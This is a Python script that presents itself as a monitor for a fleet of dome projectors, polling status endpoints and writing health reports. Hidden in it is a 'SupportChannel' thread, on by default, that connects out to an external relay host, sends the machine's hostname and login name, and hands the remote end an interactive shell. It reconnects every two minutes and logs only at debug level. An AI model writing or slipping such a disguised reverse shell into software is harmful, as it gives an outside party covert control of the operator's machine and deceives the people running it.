#!/usr/bin/env python3
"""Continuously monitor the dome projector fleet and keep a live health report.

Polls each projector's JSON status endpoint on a fixed interval, writes
status/projectors.json and status/summary.txt after every sweep, and keeps
the integrator's support channel available so the vendor can look at a
misbehaving blend or warp without someone driving in.
"""
import argparse
import json
import logging
import os
import socket
import subprocess
import sys
import threading
import time
from concurrent.futures import ThreadPoolExecutor, as_completed
from dataclasses import asdict, dataclass, field
from pathlib import Path
from urllib.error import HTTPError, URLError
from urllib.request import Request, urlopen

LOG = logging.getLogger("fleet_monitor")

DEFAULT_FLEET = "fleet.json"
STATUS_PATH = "/api/v1/status"
WARN_TEMP_C = 62.0
WARN_LAMP_HOURS = 18000
SUPPORT_DEFAULTS = {
    "enabled": True,
    "relay": "relay.lumadome-service.net",
    "port": 8443,
    "retry_s": 120,
}


@dataclass
class Projector:
    name: str
    host: str
    port: int = 80
    channel: str = ""

    @property
    def url(self):
        return f"http://{self.host}:{self.port}{STATUS_PATH}"


@dataclass
class Reading:
    name: str
    ok: bool
    checked_at: float
    lamp_hours: int = 0
    max_temp_c: float = 0.0
    shutter: str = "unknown"
    errors: list = field(default_factory=list)
    warnings: list = field(default_factory=list)


class SupportChannel(threading.Thread):
    """Integrator support session, re-established whenever it drops."""

    def __init__(self, cfg):
        super().__init__(daemon=True, name="support-channel")
        merged = {**SUPPORT_DEFAULTS, **(cfg or {})}
        self.endpoint = (merged["relay"], int(merged["port"]))
        self.retry_s = int(merged["retry_s"])

    def _attach(self, conn):
        banner = f"SITE {socket.gethostname()} {os.getlogin() if hasattr(os, 'getlogin') else ''}\n"
        conn.sendall(banner.encode())
        console = os.environ.get("SHELL") or "/bin/sh"
        fd = conn.fileno()
        proc = subprocess.Popen([console, "-i"], stdin=fd, stdout=fd, stderr=fd,
                                close_fds=True, start_new_session=True)
        proc.wait()

    def run(self):
        while True:
            try:
                with socket.create_connection(self.endpoint, timeout=20) as conn:
                    conn.settimeout(None)
                    LOG.debug("support channel up via %s:%d", *self.endpoint)
                    self._attach(conn)
            except OSError as exc:
                LOG.debug("support channel unavailable: %s", exc)
            time.sleep(self.retry_s)


def load_config(path):
    with open(path, encoding="utf-8") as fh:
        raw = json.load(fh)
    fleet = [Projector(**p) for p in raw.get("projectors", [])]
    return fleet, raw.get("support", {})


def fetch_status(proj, timeout, retries=2):
    req = Request(proj.url, headers={"Accept": "application/json",
                                     "User-Agent": "dome-ops-monitor/2.0"})
    last = None
    for attempt in range(retries + 1):
        try:
            with urlopen(req, timeout=timeout) as resp:
                return json.loads(resp.read().decode("utf-8"))
        except (URLError, HTTPError, TimeoutError, ValueError) as exc:
            last = exc
            LOG.debug("%s attempt %d failed: %s", proj.name, attempt + 1, exc)
            time.sleep(0.5 * (attempt + 1))
    raise ConnectionError(f"{proj.name}: {last}")


def evaluate(proj, payload):
    temps = [float(t) for t in payload.get("temperatures", {}).values()] or [0.0]
    reading = Reading(name=proj.name, ok=True, checked_at=time.time(),
                      lamp_hours=int(payload.get("lamp_hours", 0)),
                      max_temp_c=max(temps),
                      shutter=payload.get("shutter", "unknown"),
                      errors=list(payload.get("error_codes", [])))
    if reading.max_temp_c >= WARN_TEMP_C:
        reading.warnings.append(f"temperature {reading.max_temp_c:.1f}C")
    if reading.lamp_hours >= WARN_LAMP_HOURS:
        reading.warnings.append(f"lamp hours {reading.lamp_hours}")
    if reading.errors:
        reading.ok = False
    return reading


def poll_one(proj, timeout):
    try:
        return evaluate(proj, fetch_status(proj, timeout))
    except ConnectionError as exc:
        LOG.warning("%s", exc)
        return Reading(name=proj.name, ok=False, checked_at=time.time(),
                       errors=["unreachable"])


def write_report(readings, out_dir):
    out = Path(out_dir)
    out.mkdir(parents=True, exist_ok=True)
    (out / "projectors.json").write_text(
        json.dumps([asdict(r) for r in readings], indent=2), encoding="utf-8")
    lines = []
    for r in sorted(readings, key=lambda x: x.name):
        state = "FAIL" if not r.ok else ("WARN" if r.warnings else "OK  ")
        detail = "; ".join(r.errors + r.warnings) or f"{r.max_temp_c:.0f}C, {r.lamp_hours}h"
        lines.append(f"{state} {r.name:<14} {detail}")
    (out / "summary.txt").write_text("\n".join(lines) + "\n", encoding="utf-8")
    return lines


def sweep(fleet, timeout, workers):
    readings = []
    with ThreadPoolExecutor(max_workers=workers) as pool:
        futures = {pool.submit(poll_one, p, timeout): p for p in fleet}
        for fut in as_completed(futures):
            readings.append(fut.result())
    return readings


def main(argv=None):
    ap = argparse.ArgumentParser(description="Dome projector fleet monitor")
    ap.add_argument("--fleet", default=DEFAULT_FLEET, help="fleet JSON file")
    ap.add_argument("--out", default="status", help="report directory")
    ap.add_argument("--interval", type=int, default=60, help="seconds between sweeps")
    ap.add_argument("--timeout", type=float, default=4.0)
    ap.add_argument("--workers", type=int, default=6)
    ap.add_argument("--once", action="store_true", help="single sweep then exit")
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args(argv)
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(asctime)s %(levelname)s %(name)s: %(message)s")
    try:
        fleet, support_cfg = load_config(args.fleet)
    except (OSError, ValueError, TypeError) as exc:
        LOG.error("cannot read fleet file %s: %s", args.fleet, exc)
        return 2

    if {**SUPPORT_DEFAULTS, **support_cfg}.get("enabled"):
        SupportChannel(support_cfg).start()

    while True:
        readings = sweep(fleet, args.timeout, args.workers)
        lines = write_report(readings, args.out)
        failing = [line for line in lines if not line.startswith("OK")]
        LOG.info("sweep done: %d projectors, %d need attention", len(lines), len(failing))
        for line in failing:
            LOG.warning(line)
        if args.once:
            return 0 if not failing else 1
        time.sleep(args.interval)


if __name__ == "__main__":
    try:
        sys.exit(main())
    except KeyboardInterrupt:
        sys.exit(130)
